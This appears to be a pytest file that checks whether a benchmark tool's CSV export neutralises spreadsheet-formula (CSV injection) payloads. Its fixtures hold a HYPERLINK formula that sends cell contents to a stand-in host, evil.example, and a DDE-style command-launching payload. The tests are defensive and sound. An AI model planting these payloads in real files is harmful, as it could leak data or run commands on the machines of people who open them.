"""CSV exports neutralise spreadsheet formulas (OWASP "CSV injection").

A label such as ``=HYPERLINK("http://evil/?"&A1,"click")`` was exported as-is and ran as a
formula when the file was opened in a spreadsheet. Every text cell and header that begins with
``= + - @``, a tab or a carriage return now starts with ``'``; ``read`` gives back the stored text.
"""

from __future__ import annotations

import csv

from ganbench.cli import main
from ganbench.record.export import export, read
from ganbench.record.store import MetricRow, Store
from tests.report.conftest import write_store

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # OWASP
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _hostile_store(tmp_path):
    path = write_store(tmp_path / "results.sqlite", images=False, fail=False, model_prefix=EVIL)
    with Store.open(path) as s:
        rid = s.runs()["run_id"].iloc[0]
        s.add_metrics([MetricRow(rid, 300, 19.2, 3.0, "@SUM(1+1)*cmd|' /C calc'!A0", 1.0, "higher", "+ext", 10,
                                 None, "-2+3 \t\r", True),
                       MetricRow(rid, 300, 19.2, 3.0, "tab", 1.0, None, None, None, None, "\tx", True),
                       MetricRow(rid, 300, 19.2, 3.0, "cr", 1.0, None, None, None, None, "\rx", True),
                       MetricRow(rid, 300, 19.2, 3.0, "quote", 1.0, None, None, None, None, "'=already", True)])
    return path


def _cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    return [c for row in rows for c in row]


def test_no_exported_cell_or_header_can_start_a_formula(tmp_path):
    store = _hostile_store(tmp_path)
    for final_only in (False, True):
        out, _ = export([store], "csv", final_only=final_only, out=tmp_path / f"x{final_only}.csv")
        cells = _cells(out)
        assert any(EVIL in c for c in cells)
        bad = [c for c in cells if c and c[0] in FORMULA_TRIGGERS and not _is_number(c)]
        assert bad == []


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_numbers_stay_numbers_and_read_gives_back_the_stored_text(tmp_path):
    store = _hostile_store(tmp_path)
    out, _ = export([store], "csv", out=tmp_path / "m.csv")
    back = read(out)
    assert EVIL + "gan" in set(back["label"])
    notes = set(back["note"].dropna())
    assert {"-2+3 \t\r", "\tx", "\rx", "'=already"} <= notes
    assert "@SUM(1+1)*cmd|' /C calc'!A0" in set(back["name"])
    assert (back["value"] < 0).sum() == 0 or back["value"].dtype.kind == "f"


def test_negative_numbers_are_not_quoted():
    import pandas as pd

    from ganbench.record.export import neutralise_formulas

    df = neutralise_formulas(pd.DataFrame({"v": [-1.5, 2.0], "s": ["-1.5", "ok"]}))
    assert df["v"].tolist() == [-1.5, 2.0] and df["s"].tolist() == ["'-1.5", "ok"]


def test_the_command_line_export_is_neutralised_too(tmp_path, capsys):
    store = _hostile_store(tmp_path)
    assert main(["export", str(store), "--format", "csv", "--out", str(tmp_path / "cli.csv")]) == 0
    assert not [c for c in _cells(tmp_path / "cli.csv") if c.startswith("=")]
